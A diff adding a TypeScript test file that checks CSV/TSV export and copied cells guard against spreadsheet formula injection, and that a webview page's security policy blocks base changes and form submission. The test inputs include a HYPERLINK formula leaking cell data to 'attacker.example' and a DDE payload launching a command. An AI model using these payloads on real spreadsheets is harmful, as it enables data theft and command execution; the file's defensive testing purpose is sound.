@@ -1,0 +1,125 @@
+// Text that a spreadsheet would run as a formula is not one in files and copied cells, unless the person has chosen so.
+// Numbers stay numbers.
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { pageHtml } from '../../client/src/webview/html.ts';
+import { copied, exported, exportedText, table, Written } from '../client/export/sources.ts';
+
+const FORMULAS = [
+  '=1+1',
+  '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
+  "=cmd|' /C calc'!A0",
+  '+cmd',
+  '+1+1',
+  '-cmd',
+  '-1+1',
+  '-2+3+cmd|x',
+  '-A1',
+  '-1e5+A1',
+  '@SUM(1+1)*cmd',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  '＋1+A1',
+  '－A1',
+  '＠SUM(1)',
+  '--1',
+  '=',
+  '-1:A1',
+  '+.e(1)',
+];
+
+const HARMLESS = [
+  ...['-5', '+1.5', '-0.0', '1e-7', '-1e-7', '+.5', '-9223372036854775808', '-00:05:00'],
+  ...['-1.02:03:04.5', '-1ns', '-1m30.5s', '-', '+', 'a=b', ' =1', "'=1", '', '1-1', 'x@y.z'],
+];
+
+/** A value as a file with this separator has it. */
+const quoted = (text: string, separator: string) =>
+  /["\r\n]/.test(text) || text.includes(separator) ? `"${text.replaceAll('"', '""')}"` : text;
+
+for (const [format, separator] of [
+  ['csv', ','],
+  ['tsv', '\t'],
+] as const) {
+  describe(`an export as ${format.toUpperCase()}`, () => {
+    for (const text of FORMULAS) {
+      it(`has ${JSON.stringify(text)} as text, in values and names`, async () => {
+        const source = table([[text, 'string']], [[text]]);
+        const lines = await exportedText(source, format);
+        const expected = quoted(`'${text}`, separator);
+        assert.equal(lines, `${expected}\n${expected}\n`);
+      });
+    }
+
+    it('has numbers, timespans and other text as they are', async () => {
+      const source = table(
+        { text: 'string' },
+        HARMLESS.filter((text) => text !== '').map((text) => [text]),
+      );
+      const { body, notices } = await exported(source, format);
+      assert.equal(body.toString(), `text\n${HARMLESS.filter(Boolean).join('\n')}\n`);
+      assert.deepEqual(notices, []);
+    });
+
+    it('has negative numbers of numeric columns as numbers', async () => {
+      const source = table({ n: 'integer', x: 'float' }, [
+        [-5, new Written('-1.5E+10')],
+        [-(2n ** 63n), -0.25],
+      ]);
+      assert.equal(
+        await exportedText(source, format, { header: false }),
+        `-5${separator}-1.5E+10\n-9223372036854775808${separator}-0.25\n`,
+      );
+    });
+
+    it('has the exact text where the person turned the guard off', async () => {
+      const source = table(
+        { text: 'string' },
+        ['=1+1', '@x', '-A1'].map((text) => [text]),
+      );
+      const { body, notices } = await exported(source, format, { guardFormulas: false });
+      assert.equal(body.toString(), 'text\n=1+1\n@x\n-A1\n');
+      assert.deepEqual(notices, []);
+    });
+  });
+}
+
+describe('copied cells', () => {
+  it('have an apostrophe in front of formulas, one cell as well as several', async () => {
+    for (const text of FORMULAS) {
+      const { text: one } = await copied(table({ a: 'string' }, [[text]]), 'text');
+      assert.equal(one, `'${text}`);
+      const pair = table({ a: 'string', n: 'integer' }, [[text, -5]]);
+      const { text: several } = await copied(pair, 'text', { header: false });
+      assert.equal(several, `${quoted(`'${text}`, '\t')}\t-5`);
+    }
+  });
+
+  it('say so, and are exact where the person turned the guard off', async () => {
+    const source = table({ '@name': 'string' }, [['=1+1'], ['x']]);
+    const guarded = await copied(source, 'text');
+    assert.equal(guarded.text, "'@name\n'=1+1\nx");
+    assert.deepEqual(
+      guarded.notices.map(({ code }) => code),
+      ['guardedFormulas'],
+    );
+    const exact = await copied(source, 'text', { guardFormulas: false });
+    assert.equal(exact.text, '@name\n=1+1\nx');
+  });
+
+  it('that are numbers or other text are copied as they are', async () => {
+    for (const text of HARMLESS) {
+      assert.equal((await copied(table({ a: 'string' }, [[text]]), 'text')).text, text);
+    }
+  });
+});
+
+it('a page can neither change the base of its addresses nor send a form', () => {
+  const html = pageHtml({ title: 't', scriptUri: 's', styleUri: 'c', cspSource: 'o', nonce: 'n' });
+  const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
+  const directives = policy.split('; ');
+  assert.ok(directives.includes("base-uri 'none'"), policy);
+  assert.ok(directives.includes("form-action 'none'"), policy);
+});
